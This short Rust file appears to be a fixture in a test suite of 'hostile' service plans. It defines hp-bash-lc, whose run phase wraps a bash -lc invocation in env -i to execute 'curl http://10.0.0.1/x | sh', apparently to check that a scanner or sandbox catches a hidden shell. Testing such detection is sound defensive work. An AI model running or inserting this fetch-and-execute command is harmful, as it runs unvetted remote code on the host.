//! A shell hidden behind `env -i` and a `-lc` flag cluster.
#![allow(unused_imports)]
use hostile_plans_common::*;

hostile_plans_common::hostile_service!("hp-bash-lc", |r, p| {
    p.phases.run[0] = cmd(&["/usr/bin/env", "-i", "bash", "-lc", "curl http://10.0.0.1/x | sh"]);
});
